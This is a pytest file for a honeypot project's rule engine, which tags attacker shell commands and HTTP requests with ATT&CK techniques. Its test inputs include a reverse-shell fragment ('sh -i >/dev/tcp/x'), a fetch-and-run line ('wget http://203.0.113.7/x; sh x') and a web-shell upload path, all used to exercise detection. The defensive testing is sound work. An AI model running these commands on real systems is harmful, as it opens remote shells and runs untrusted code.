from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet.models.event import AUTH_ATTEMPT, HTTP_REQUEST, AuthPayload, HttpPayload
from decnet.models.tag import evidence_keys
from decnet.models.text import canonical_text
from decnet.ttp.engine import RuleEngine
from decnet.ttp.predict import logical_lines, session_techniques
from decnet.ttp.store.filesystem import load_pack
from tests.events import a_command, an_event
from tests.ttp.packs import engine_of

if TYPE_CHECKING:
    from decnet.ttp.pack import Pack


@pytest.fixture(scope="module")
def shipped() -> RuleEngine:
    return RuleEngine(load_pack())


def fired(engine: RuleEngine, text: str) -> list[str]:
    return [hit.rule.rule_id for hit, _ in engine.findings("command", {"command_text": text})]


@pytest.mark.parametrize(
    ("match", "yes", "no"),
    [
        ("{pattern: 'who+ami'}", "x; whooami", "who ami"),
        ("{contains: 'a b'}", "xa by", "ab"),
        ("{equals: id}", "id", "id "),
        ("{in_set: [id, w]}", "w", "ww"),
        ("{startswith: 'cat '}", "cat /etc", "xcat "),
        ("{endswith: '.sh'}", "run.sh", "run.sh "),
        ("{all: [{contains: a}, {contains: b}]}", "ba", "aa"),
        ("{any: [{contains: a}, {contains: b}]}", "b", "c"),
        ("{all: [{contains: a}, {not: {contains: b}}]}", "ac", "ab"),
        ("{not: {contains: a}}", "b", "a"),
        ("{all: [{contains: c}, {any: [{equals: ac}, {not: {contains: a}}]}]}", "cb", "cab"),
    ],
)
def test_operator(match: str, yes: str, no: str) -> None:
    engine = engine_of(match)
    assert fired(engine, yes) == ["R0900"]
    assert fired(engine, no) == []


def test_a_pattern_sees_bytes_as_latin_1() -> None:
    assert fired(engine_of(r"{pattern: 'a..b'}"), "aéb") == ["R0900"]


def test_a_line_of_4_kb_that_ruins_a_backtracking_engine_is_matched_at_once() -> None:
    engine = engine_of(r"{pattern: '(a+)+(a+)+(a+)+b'}")
    assert fired(engine, "a" * 4_096) == []


def test_evidence_says_what_matched_and_where_in_bytes() -> None:
    (_, evidence), *_ = engine_of("{contains: wget}").findings("command", {"command_text": "é; wget x"})
    assert evidence == {"matched": "wget", "start": 4, "end": 8, "terms": ["match.contains"]}


def test_terms_under_not_are_no_evidence() -> None:
    (_, evidence), *_ = engine_of("{all: [{contains: a}, {not: {contains: b}}]}").findings(
        "command", {"command_text": "a"}
    )
    assert evidence["terms"] == ["match.all[0].contains"]


def test_an_emit_with_a_condition_of_its_own_needs_it() -> None:
    emits = "  - {tactic: TA0011, technique_id: T1071, confidence: 0.8, when: {contains: tcp}}\n"
    engine = engine_of("{contains: sh}", emits=emits)
    assert [tag.technique_id for tag in engine.tag(a_command("sh -i"))] == ["T1033"]
    assert [tag.technique_id for tag in engine.tag(a_command("sh -i >/dev/tcp/x"))] == ["T1033", "T1071"]


def test_a_tag_carries_what_the_contract_asks() -> None:
    event = a_command("whoami")
    (tag,) = engine_of("{contains: whoami}").tag(event)
    assert (tag.source_kind, tag.source_id, tag.session_id) == ("command", event.id.hex(), event.session_id)
    assert (tag.decky_id, tag.attack_release, tag.observed_at) == ("svr04", "enterprise-19.2", event.observed_at)
    assert tag.attacker_uuid is not None


def test_remembering_texts_changes_no_result(pack: Pack) -> None:
    texts = ["uname -a", "wget http://203.0.113.7/x; sh x", "id", "uname -a", "", "id"]
    with_memory, without = RuleEngine(pack), RuleEngine(pack, remembered=0)
    assert [with_memory.tag(a_command(text)) for text in texts] == [without.tag(a_command(text)) for text in texts]


def test_kinds_that_no_rule_names_get_no_tags() -> None:
    assert engine_of("{contains: root}").tag(an_event(AUTH_ATTEMPT, AuthPayload("root", success=False))) == []


def test_a_rule_for_http_looks_at_the_url_by_default() -> None:
    engine = engine_of("{contains: shell.php}", applies_to="http_request")
    (tag,) = engine.tag(an_event(HTTP_REQUEST, HttpPayload("POST", "/uploads/shell.php")))
    assert tag.evidence["field"] == "raw_url"


@pytest.mark.parametrize("kind", ["command", "http_request"])
def test_evidence_has_no_undeclared_key(kind: str) -> None:
    field = {"command": "command_text", "http_request": "raw_url"}[kind]
    (_, evidence), *_ = engine_of("{contains: a}", applies_to=kind).findings(kind, {field: "a"})
    assert set(evidence) <= evidence_keys(kind)


@given(text=st.text(st.characters(codec=None, exclude_categories=())))
def test_no_text_makes_the_engine_raise(shipped: RuleEngine, text: str) -> None:
    shipped.tag(a_command(canonical_text(text)))


def test_continued_lines_are_one() -> None:
    assert list(logical_lines("a \\\n  b\n\n c\n")) == ["a  b", "c"]


def test_a_session_shows_what_its_lines_show_at_or_above_the_floor() -> None:
    engine = engine_of("{contains: whoami}")
    assert session_techniques(engine, "ls\nwhoami", 0.7) == ["T1033"]
    assert session_techniques(engine, "ls\nwhoami", 0.8) == []
